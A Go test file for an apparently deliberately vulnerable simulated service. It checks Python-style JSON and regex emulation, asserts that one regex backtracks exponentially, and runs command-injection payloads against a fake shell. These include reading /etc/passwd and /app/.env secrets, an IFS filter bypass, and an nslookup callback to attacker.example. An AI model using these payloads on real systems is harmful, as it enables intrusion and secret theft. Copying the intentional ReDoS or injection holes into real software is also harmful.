package fastapilike

import (
	"math"
	"strings"
	"testing"
	"time"
)

func TestPyLoadsErrors(t *testing.T) {
	for _, c := range []struct {
		in, msg string
		pos     int
	}{
		{"", "Expecting value", 0},
		{"  ", "Expecting value", 2},
		{"{", "Expecting property name enclosed in double quotes", 1},
		{"{'a': 1}", "Expecting property name enclosed in double quotes", 1},
		{`{"a" 1}`, "Expecting ':' delimiter", 5},
		{`{"a": 1 "b": 2}`, "Expecting ',' delimiter", 8},
		{`{"a": 1,}`, "Expecting property name enclosed in double quotes", 8},
		{`[1, 2`, "Expecting ',' delimiter", 5},
		{`[1,]`, "Expecting value", 3},
		{`"abc`, "Unterminated string starting at", 0},
		{"\"a\nb\"", "Invalid control character at", 2},
		{`"\x"`, "Invalid \\escape", 1},
		{`{"é": tru}`, "Expecting value", 6},
		{`01`, "Extra data", 1},
		{`{} x`, "Extra data", 3},
		{`-`, "Expecting value", 0},
	} {
		_, err := pyLoads([]byte(c.in))
		de, ok := err.(*pyDecodeError)
		if !ok || de.msg != c.msg || de.pos != c.pos {
			t.Errorf("%q: %v, want %s at %d", c.in, err, c.msg, c.pos)
		}
	}
}

func TestPyLoadsValues(t *testing.T) {
	v, err := pyLoads([]byte(`{"b": 1, "a": [true, null, 1.5, 1e2, "\u00e9\ud83d\ude00", 123456789012345678901234567890], "b": 2, "n": NaN, "i": -Infinity}`))
	if err != nil {
		t.Fatal(err)
	}
	o := v.(obj)
	if o[0].k != "b" || o.mustGet("b") != int64(2) || len(o) != 4 {
		t.Errorf("dict semantics: %v", o)
	}
	a := o.mustGet("a").([]any)
	if a[0] != true || a[1] != nil || a[2] != 1.5 || a[3] != 100.0 || a[4] != "é😀" {
		t.Errorf("values %v", a)
	}
	if got, _ := pyDumps(a[5]); string(got) != "123456789012345678901234567890" {
		t.Errorf("big int %s", got)
	}
	if !math.IsNaN(o.mustGet("n").(float64)) || !math.IsInf(o.mustGet("i").(float64), -1) {
		t.Error("NaN / Infinity")
	}
	if _, err := pyDumps(o); err != errNaN {
		t.Errorf("dumping NaN: %v", err)
	}
}

func TestPyDumps(t *testing.T) {
	got, err := pyDumps(obj{{"s", "<a href='x'>é\u2028\x01\"\\\n"}, {"f", []any{1.0, 0.1, 1e16, 1.5e-5, 123456.789, math.Copysign(0, -1), 2.45, 1e-4}}, {"i", int64(-3)}, {"n", nil}})
	if err != nil {
		t.Fatal(err)
	}
	want := `{"s":"<a href='x'>é` + "\u2028" + `\u0001\"\\\n","f":[1.0,0.1,1e+16,1.5e-05,123456.789,-0.0,2.45,0.0001],"i":-3,"n":null}`
	if string(got) != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestPyRegexp(t *testing.T) {
	for _, c := range []struct {
		pattern, in string
		want        bool
	}{
		{`^\d{4}-\d{2}-\d{2}$`, "2024-01-31", true},
		{`^\d{4}-\d{2}-\d{2}$`, "2024-1-31", false},
		{`^\d{4}-\d{2}-\d{2}$`, "2024-01-31\n", true}, // Python's $ before a final newline
		{`^(a|b)+c?$`, "ababc", true},
		{`^[^x-z]+$`, "abc", true},
		{`^[^x-z]+$`, "abx", false},
		{`^a.c$`, "a\nc", false},
		{`^a{2,3}$`, "aaaa", false},
		{`^a*?b$`, "aaab", true},
		{`^[\w.-]+@[\w-]+\.\w+$`, "walt@gray.example", true},
		{`^(\(?\d+\)?[\s.-]?)+$`, "(505) 146-0195", true},
		{`^(\(?\d+\)?[\s.-]?)+$`, "505-146-0195 ext", false},
	} {
		re, err := compilePyRe(c.pattern)
		if err != nil {
			t.Fatalf("%s: %v", c.pattern, err)
		}
		if got, _ := re.match(c.in); got != c.want {
			t.Errorf("%s on %q: %v", c.pattern, c.in, got)
		}
	}
	for _, bad := range []string{"(", "[a", "*a", `\q`, "a**"} {
		if _, err := compilePyRe(bad); err == nil {
			t.Errorf("%q compiled", bad)
		}
	}
	// the cost grows with every digit: about x4 for two more
	re := mustPyRe(`^(\(?\d+\)?[\s.-]?)+$`)
	cost := func(n int) time.Duration {
		b := time.Now()
		re.match(strings.Repeat("7", n) + "!")
		return time.Since(b)
	}
	small, big := cost(12), cost(20)
	if big < 20*small || big < 5*time.Millisecond {
		t.Errorf("no exponential backtracking: 12 digits %v, 20 digits %v", small, big)
	}
}

func TestSimulatedShell(t *testing.T) {
	var slept time.Duration
	run := func(line string) shellResult {
		sh := newShell("123321")
		sh.sleep = func(d time.Duration) { slept += d }
		return sh.run(line)
	}
	df := run("df -h").stdout
	if !strings.HasPrefix(df, "Filesystem      Size  Used Avail Use% Mounted on\noverlay") {
		t.Errorf("df:\n%s", df)
	}
	for _, c := range []struct {
		line    string
		code    int
		wantOut string // suffix of stdout
		wantErr string // substring of stderr
	}{
		{"df -h ;id", 0, "uid=1000(app) gid=1000(app) groups=1000(app)\n", ""},
		{"df -h && echo vulnerable!", 0, "vulnerable!\n", ""},
		{"df -h | id", 0, "uid=1000(app) gid=1000(app) groups=1000(app)\n", ""},
		{"df -h || id", 0, "/sys/firmware\n", ""},
		{"df -h -z || id", 0, "uid=1000(app) gid=1000(app) groups=1000(app)\n", "invalid option -- 'z'"},
		{"df -h -z && id", 1, "", "invalid option"},
		{"df -h `id`", 1, "", "df: uid=1000(app): No such file or directory"},
		{"df -h $(whoami)", 1, "", "df: app: No such file or directory"},
		{"df -h /;cat${IFS}/etc/passwd", 0, "app:x:1000:1000::/home/app:/bin/sh\n", ""},
		{"df -h / ; cat /app/.env", 0, "JWT_SECRET_KEY=123321\nCHEF_USERNAME=chef\n", ""},
		{"df -h ;nslookup x.attacker.example", 127, "", "nslookup: not found"},
		{"df -h ;; id", 2, "", `Syntax error: ";;" unexpected`},
		{"df -h &&", 2, "", "end of file unexpected"},
		{"df -h 'unterminated", 2, "", "Unterminated quoted string"},
		{`df -h / ;echo "$(id -un) in $PWD"`, 0, "app in /app\n", ""},
		{"df -h / ; ls /app | grep main", 0, "main.py\n", ""},
		{"df -h / 2>&1; false || uname -a", 0, "x86_64 GNU/Linux\n", ""},
		{"df -h /nope 2>&1", 1, "df: /nope: No such file or directory\n", ""},
		{"df -h / > /etc/x", 2, "", "cannot create /etc/x"},
		{"df -h /; sh -c 'echo nested'", 0, "nested\n", ""},
		{"df -h /; cat /etc/shadow", 1, "", "Permission denied"},
	} {
		r := run(c.line)
		if r.code != c.code || !strings.HasSuffix(r.stdout, c.wantOut) || !strings.Contains(r.stderr, c.wantErr) {
			t.Errorf("%q: code %d\nstdout %q\nstderr %q", c.line, r.code, r.stdout, r.stderr)
		}
	}
	slept = 0
	run("df -h; sleep 2; sleep 2")
	if slept != maxShellSleep {
		t.Errorf("slept %v, want the %v cap", slept, maxShellSleep)
	}
	slept = 0
	if r := run("df -h; ping -c 3 127.0.0.1"); !strings.Contains(r.stdout, "icmp_seq=3") || slept != 2*time.Second {
		t.Errorf("ping: slept %v, %q", slept, r.stdout)
	}
}
